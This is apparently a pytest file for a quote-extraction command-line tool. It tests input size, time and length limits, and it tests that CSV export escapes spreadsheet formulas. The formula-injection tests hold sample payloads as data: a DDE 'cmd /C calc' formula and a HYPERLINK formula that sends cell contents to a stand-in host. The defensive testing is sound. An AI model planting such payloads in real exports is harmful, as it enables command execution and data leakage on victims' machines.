"""Issue 16: every command that reads input does it within the limits of `quotes load`,
and CSV exports cannot smuggle formulas into a spreadsheet."""
from __future__ import annotations

import csv
import io
import json

import pytest
import sqlite_utils
from click.testing import CliRunner

from conftest import burn_cpu, simple_extract, write_article
from quotes.cli import cli


def slow_extract(article):
    """simple_extract, except that an article saying "slow" needs a minute of CPU."""
    if "slow" in article.body:
        burn_cpu(60)
    return simple_extract(article)


@pytest.fixture
def extractor(monkeypatch):
    monkeypatch.setattr("quotes.load.extract_article", slow_extract)
    monkeypatch.setattr("quotes.parallel.extract_article", slow_extract)


def _errors(stderr: str) -> list[str]:
    return [line for line in stderr.splitlines() if line.startswith("Error: ")]


def _bad_inputs(tmp_path, case: str) -> tuple[list[str], list[str], list[str]]:
    """(inputs, options, the error lines expected) for one kind of limit; every case
    holds good.txt too, which must still be read."""
    good = write_article(tmp_path, "good.txt", '"It works," Ann Lee said.')
    if case == "size":
        big = write_article(tmp_path, "big.txt", '"Too big," Ann Lee said. ' + "x" * 2000)
        lines = tmp_path / "lines.jsonl"
        lines.write_text("\n".join(json.dumps({"id": f"l{n}", "text": text}) for n, text in enumerate(
            ['"One," Bo Ek said.', '"Two," Bo Ek said. ' + "y" * 2000, '"Three," Bo Ek said.'], 1)) + "\n")
        return [str(big), str(lines), str(good)], ["--max-size", "0.001"], [
            f"Error: {big}: larger than the 1 KB limit for one file; not read (--max-size)",
            f"Error: {lines}:2: line longer than the 1 KB limit; not read (--max-size)",
        ]
    if case == "time":
        slow = write_article(tmp_path, "slow.txt", '"This is slow," Ann Lee said.')
        return [str(slow), str(good)], ["--time-limit", "0.5"], [
            f"Error: {slow}: extraction took longer than the 0.5 s limit; article skipped (--time-limit)",
        ]
    if case == "length":  # 1,000,000 characters at most reach extraction, whatever --max-size says
        long = write_article(tmp_path, "long.txt", '"Long," Ann Lee said. ' + "z " * 500_000)
        return [str(long), str(good)], [], [
            f"Error: {long}: article text longer than the 1,000,000-character limit "
            "(1,000,021 characters); not extracted",
        ]
    raise ValueError(case)


@pytest.mark.parametrize("case", ["size", "time", "length"])
def test_extract_applies_the_limits_of_load_with_the_same_errors(case, tmp_path, extractor, cpu_clock):
    inputs, options, expected = _bad_inputs(tmp_path, case)
    runner = CliRunner()
    loaded = runner.invoke(cli, ["load", *inputs, *options, "--db", str(tmp_path / "q.db"), "-s"])
    extracted = runner.invoke(cli, ["extract", *inputs, *options])

    assert (loaded.exit_code, extracted.exit_code) == (1, 1), (loaded.output, extracted.output)
    assert _errors(loaded.stderr) == expected
    assert _errors(extracted.stderr) == expected
    assert extracted.stderr.splitlines() == expected  # nothing else: no traceback
    speakers = [(json.loads(line)["speaker"], json.loads(line)["text"]) for line in extracted.stdout.splitlines()]
    assert ("Ann Lee", "It works") in speakers  # the good inputs are still extracted
    if case == "size":
        assert speakers == [("Bo Ek", "One"), ("Bo Ek", "Three"), ("Ann Lee", "It works")]


def test_extract_reports_an_extractor_failure_as_one_line(tmp_path, monkeypatch):
    def broken(article):
        if "broken" in article.body:
            raise ValueError("no sentences")
        return simple_extract(article)

    monkeypatch.setattr("quotes.load.extract_article", broken)
    bad = write_article(tmp_path, "bad.txt", '"It is broken," Ann Lee said.')
    good = write_article(tmp_path, "good.txt", '"It works," Ann Lee said.')
    result = CliRunner().invoke(cli, ["extract", str(bad), str(good)])
    assert result.exit_code == 1, result.output
    assert result.stderr.splitlines() == [f"Error: {bad}: extraction failed: ValueError: no sentences"]
    assert [json.loads(line)["text"] for line in result.stdout.splitlines()] == ["It works"]


# --- B: CSV formula injection ---------------------------------------------------------


def test_csv_export_escapes_text_that_a_spreadsheet_would_run(tmp_path):
    """Text starting with = + - @ tab or CR gets a leading ' (OWASP); numbers, even
    negative ones, and text with those characters further in are written as they are."""
    from quotes.export import write

    db = sqlite_utils.Database(tmp_path / "t.db")
    db["things"].insert_all([
        {"id": 1, "text": "=1+2", "n": -5, "x": -0.5, "note": None},
        {"id": 2, "text": "+44 20 7946 0000", "n": 3, "x": 1.5, "note": "-minus"},
        {"id": 3, "text": "@SUM(A1)", "n": 0, "x": 0.0, "note": "\tTab"},
        {"id": 4, "text": "\rCR", "n": 7, "x": 2.0, "note": "plain"},
        {"id": 5, "text": "a=b", "n": 1, "x": 1e-7, "note": "'already"},
        {"id": 6, "text": '=HYPERLINK("http://x.example/?"&A1,"Click")', "n": -1, "x": -2.5, "note": "-5"},
    ], pk="id")
    out = io.StringIO()
    assert write(db, "things", "csv", out) == 6
    assert out.getvalue() == (
        "id,text,n,x,note\r\n"
        "1,'=1+2,-5,-0.5,\r\n"
        "2,'+44 20 7946 0000,3,1.5,'-minus\r\n"
        "3,'@SUM(A1),0,0.0,'\tTab\r\n"
        "4,\"'\rCR\",7,2.0,plain\r\n"
        "5,a=b,1,1e-07,'already\r\n"
        "6,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Click\"\")\",-1,-2.5,'-5\r\n"
    )


def test_csv_export_escapes_quotes_and_titles_but_json_keeps_them(tmp_path, fake_extract):
    """`quotes export` end to end: the quote and the article title an attacker wrote."""
    folder = tmp_path / "in"
    folder.mkdir()
    write_article(folder, "a.txt", '"=cmd|\' /C calc\'!A0," Ann Lee said. "-2+3," Ann Lee said.',
                  title="@SUM(1+1)*cmd")
    db = tmp_path / "q.db"
    runner = CliRunner()
    assert runner.invoke(cli, ["load", str(folder), "--db", str(db), "-s"]).exit_code == 0
    result = runner.invoke(cli, ["export", "quotes_view", "--db", str(db), "--format", "csv"])
    assert result.exit_code == 0, result.output
    rows = sorted((r["text"], r["article_title"]) for r in csv.DictReader(io.StringIO(result.stdout)))
    assert rows == [("'-2+3", "'@SUM(1+1)*cmd"), ("'=cmd|' /C calc'!A0", "'@SUM(1+1)*cmd")]
    as_json = runner.invoke(cli, ["export", "quotes_view", "--db", str(db), "--format", "json"])
    assert sorted((r["text"], r["article_title"]) for r in json.loads(as_json.stdout)) == [
        ("-2+3", "@SUM(1+1)*cmd"), ("=cmd|' /C calc'!A0", "@SUM(1+1)*cmd")]
